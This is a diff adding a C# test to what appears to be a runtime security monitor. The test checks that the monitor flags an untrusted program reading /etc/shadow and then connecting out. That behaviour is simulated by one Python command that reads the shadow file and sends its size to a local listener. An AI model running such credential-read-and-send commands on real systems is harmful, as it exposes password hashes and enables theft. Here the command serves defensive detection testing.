@@ -1,4 +1,5 @@
 using System.Net;
+using System.Net.Sockets;
 using System.Text.Json;
 using Vigil.Events;
 using Vigil.Storage;
@@ -69,6 +70,36 @@ public sealed class StoreQueryCommandTests
         Assert.Contains(marker, Query("events", "--store", file.Path, "--proc", "grep", "-o", "json"), StringComparison.Ordinal);
         Assert.DoesNotContain(sleepMarker, Query("ps", "--tree", "--store", file.Path), StringComparison.Ordinal);
         Assert.Contains(sleepMarker, Query("ps", "--all", "--store", file.Path), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Incident_show_names_the_sequence_step_each_signal_took()
+    {
+        KernelRequirement.Check();
+        using var file = new TempStore();
+        string marker = Children.Marker();
+        // An untrusted program reads /etc/shadow, then sends out what it read: "credential read then call out".
+        string collector = System.IO.Path.Combine(file.Directory, "collector");
+        File.Copy("/usr/bin/python3", collector);
+        using var drop = new TcpListener(IPAddress.Loopback, 0);
+        drop.Start();
+        using var agent = new CliProcess(["run", "--store", file.Path, "--rules", FalcoRulesLocation.StableRules]);
+        agent.WaitUntilRunning();
+
+        Children.Run(collector, "-c", "import socket, sys; data = open('/etc/shadow', 'rb').read(); socket.create_connection(('127.0.0.1', int(sys.argv[1]))).sendall(str(len(data)).encode())",
+            ((IPEndPoint)drop.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture), marker);
+        string incidentLine = Eventually(() => Query("incidents", "--store", file.Path, "-o", "json").Split('\n')
+            .FirstOrDefault(l => l.Contains(marker, StringComparison.Ordinal) && l.Contains("credential read then call out", StringComparison.Ordinal)));
+        string incidentId = JsonDocument.Parse(incidentLine).RootElement.GetProperty("vigil.incident.id").GetString()!;
+        agent.Signal(15);
+        Assert.Equal(0, agent.WaitForExit(TimeSpan.FromSeconds(20)));
+
+        string[] shown = Query("incident", "show", incidentId, "--store", file.Path).Split('\n');
+        Assert.Contains(shown, l => l.Contains("SEQUENCE STEP", StringComparison.Ordinal));
+        Assert.Contains(shown, l => l.Contains("Root cause", StringComparison.Ordinal) && l.Contains("as step credential read then call out: credential read", StringComparison.Ordinal));
+        string[] timeline = [.. shown.SkipWhile(l => !l.Contains("Timeline", StringComparison.Ordinal)).TakeWhile(l => !l.Contains("Causal chain", StringComparison.Ordinal))];
+        Assert.Contains(timeline, l => l.Contains("Read sensitive file untrusted", StringComparison.Ordinal) && l.Contains("credential read then call out: credential read", StringComparison.Ordinal));
+        Assert.Contains(timeline, l => l.Contains("network.connect", StringComparison.Ordinal) && l.Contains("credential read then call out: connects out", StringComparison.Ordinal));
     }
 
     [Fact]
